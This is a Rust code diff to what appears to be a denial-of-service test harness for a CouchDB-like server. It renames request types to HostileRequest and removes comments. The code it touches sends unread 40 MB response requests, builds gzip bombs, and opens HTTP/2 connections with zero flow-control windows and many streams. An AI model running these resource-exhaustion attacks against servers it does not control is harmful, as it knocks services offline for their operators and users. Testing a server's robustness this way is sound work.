@@ -8,7 +8,7 @@ use anyhow::Result;
 use flate2::Compression;
 use flate2::write::GzEncoder;
 
-use super::{Ask, Attack, Expect, Text, ask, attack};
+use super::{Attack, Expect, HostileRequest, Text, ask, attack};
 use crate::attack::client::head;
 use crate::attack::target::Target;
 
@@ -19,8 +19,7 @@ pub(super) const ALL: &[Attack] = &[
     Attack { prepare: forty_megabytes, requests: UNREAD, ..attack("unread-answers", 300) },
 ];
 
-/// Answers of 40 MB that are not read, of each kind.
-const UNREAD: &[Ask] = &[
+const UNREAD: &[HostileRequest] = &[
     unread("GET /public/_all_docs?include_docs=true"),
     unread("GET /public/_changes?include_docs=true"),
     unread("GET /public/_changes?include_docs=true&feed=continuous"),
@@ -28,7 +27,7 @@ const UNREAD: &[Ask] = &[
     unread("GET /public/_design/d/_list/l/v"),
 ];
 
-const fn unread(line: &'static str) -> Ask {
+const fn unread(line: &'static str) -> HostileRequest {
     ask(line, Text::Is("")).expects(Expect::LeavesAfter(Duration::from_secs(20)))
 }
 
@@ -52,7 +51,6 @@ fn gzip_bombs(target: &Target) {
     let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
     let spaces = vec![b' '; 1 << 20];
     for _ in 0..megabytes {
-        // Writing to memory cannot fail.
         let _ = encoder.write_all(&spaces);
     }
     let bomb = encoder.finish().unwrap_or_default();
@@ -75,7 +73,6 @@ fn large_documents(target: &Target) -> Result<()> {
     Ok(())
 }
 
-/// A connection of HTTP/2 whose windows let nothing through, with 90 requests.
 fn closed_windows(target: &Target) {
     let mut connections = Vec::new();
     for _ in 0..target.count(10, 50) {
@@ -85,7 +82,6 @@ fn closed_windows(target: &Target) {
             b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\x06\x04\0\0\0\0\0\0\x04\0\0\0\0\0\0\0\x04\x01\0\0\0\0".to_vec();
         for stream in 0..90_u32 {
             let path = LARGE_PATHS[stream as usize % LARGE_PATHS.len()];
-            // GET and http of the static table; path and authority as literals.
             let mut block = vec![0x82, 0x86, 0x04, path.len() as u8];
             block.extend_from_slice(path.as_bytes());
             block.extend_from_slice(b"\x01\x01x");
@@ -96,7 +92,6 @@ fn closed_windows(target: &Target) {
         let _ = connection.write(&text);
         connections.push(connection);
     }
-    // A client reconnects after its connection was closed.
     for _ in 0..50 {
         if target.is_over() {
             return;
